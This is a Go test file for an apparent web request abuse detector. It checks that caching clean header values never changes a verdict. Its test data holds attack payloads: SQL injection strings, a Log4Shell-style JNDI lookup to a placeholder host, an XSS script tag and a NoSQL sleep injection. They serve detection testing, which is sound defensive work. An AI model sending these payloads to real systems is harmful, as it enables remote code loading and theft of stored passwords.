package payload

import (
	"context"
	"reflect"
	"testing"

	"github.com/warden-dev/warden/abuse"
)

// TestCleanMemo checks that remembering clean header values never changes
// a verdict: every request gets the same verdict from a detector with a
// warm memo as from one without, whatever came before it.
func TestCleanMemo(t *testing.T) {
	const browserUA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36"
	reqs := []struct {
		name, target, header, value string
	}{
		{"browser", "/api/items/1", "User-Agent", browserUA},
		{"attack ua", "/api/items/1", "User-Agent", "Mozilla/5.0' or '1'='1' -- (compatible)"},
		// The same signal from the query first, then from the header:
		// the header's own hit must not make it look clean.
		{"query then ua", "/q?x=${jndi:ldap://evil.example/a}", "User-Agent", "${jndi:ldap://evil.example/a}"},
		{"ua alone", "/api/items/2", "User-Agent", "${jndi:ldap://evil.example/a}"},
		{"one byte off", "/api/items/3", "User-Agent", browserUA[:40] + "<script>alert(1)</script>"},
		{"referer", "/api/items/4", "Referer", "https://shop.example/catalogue?page=2&sort=price"},
		{"referer attack", "/api/items/5", "Referer", "https://shop.example/?q=1 union select password from users--"},
		{"other header", "/api/items/6", "X-Client-Note", "1' union select password from users--"},
		{"other header name", "/api/items/7", "$where", "sleep(5000)"},
		{"other header clean", "/api/items/8", "X-Client-Note", "checkout page, second visit"},
	}
	// Many query values first: repeats are looked for, and a header whose
	// value repeats an earlier header's is skipped, not inspected.
	const many = "/q?a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8&i=9"
	const attack = "1' union select password from users--"
	repeated := withHeader(withHeader(get(many), "X-Note-A", attack), "X-Note-B", attack)
	memo := newTestDetector(t)
	plain := newTestDetector(t)
	plain.memo, plain.urls = nil, nil
	ctx := context.Background()
	for round := range 3 {
		for _, tt := range reqs {
			r := withHeader(get(tt.target), tt.header, tt.value)
			got, want := memo.Detect(ctx, r), plain.Detect(ctx, r)
			if !reflect.DeepEqual(got, want) {
				t.Fatalf("round %d, %s: verdict with memo %+v, without %+v", round, tt.name, got, want)
			}
		}
	}
	for range 2 {
		for _, r := range []*abuse.Request{repeated, withHeader(get("/a"), "X-Note-B", attack),
			withHeader(get(many), "X-Client-Note", "quiet afternoon reading")} {
			// Headers are walked in map order, so which of two equal
			// headers names the evidence varies: compare the judgement.
			got, want := memo.Detect(ctx, r), plain.Detect(ctx, r)
			if got.Confidence != want.Confidence || got.Violation != want.Violation {
				t.Fatalf("%s %v: verdict with memo %+v, without %+v", r.RawQuery, r.Header, got, want)
			}
		}
	}
	if memo.memo.has("X-Note-B", attack) {
		t.Error("a value skipped as a repeat was remembered as clean")
	}
	if !memo.memo.has("X-Client-Note", "quiet afternoon reading") {
		t.Error("clean header after many query values not remembered")
	}
	if memo.Detect(ctx, withHeader(get("/a"), "X-Forwarded-For", "198.51.100.23")); memo.memo.has("X-Forwarded-For", "198.51.100.23") {
		t.Error("per-client header value remembered")
	}
	if !memo.memo.has("User-Agent", browserUA) || !memo.memo.has("X-Client-Note", "checkout page, second visit") {
		t.Error("clean header value not remembered")
	}
	if !memo.memo.has("", "X-Client-Note") || memo.memo.has("", "$where") {
		t.Error("header names: clean one not remembered or one with a signal remembered")
	}
	for _, tt := range append(reqs[1:5:5], reqs[6:8]...) {
		if memo.memo.has(tt.header, tt.value) {
			t.Errorf("%s: value with a signal remembered as clean", tt.name)
		}
	}
	if v := memo.Detect(ctx, withHeader(get("/a"), "User-Agent", reqs[3].value)); v.Confidence < 0.8 {
		t.Errorf("jndi user agent after warm-up: confidence %.2f, want a block", v.Confidence)
	}
}

func BenchmarkBrowserGet(b *testing.B) {
	d := newTestDetector(b)
	r := withHeader(get("/api/products/42?fields=name"), "User-Agent",
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36")
	r.Header.Set("Referer", "https://shop.example/catalogue?page=2")
	ctx := context.Background()
	for _, memo := range []struct {
		name string
		m    *cleanMemo
	}{{"memo", d.memo}, {"nomemo", nil}} {
		b.Run(memo.name, func(b *testing.B) {
			d.memo = memo.m
			b.ReportAllocs()
			for b.Loop() {
				d.Detect(ctx, r)
			}
		})
	}
}
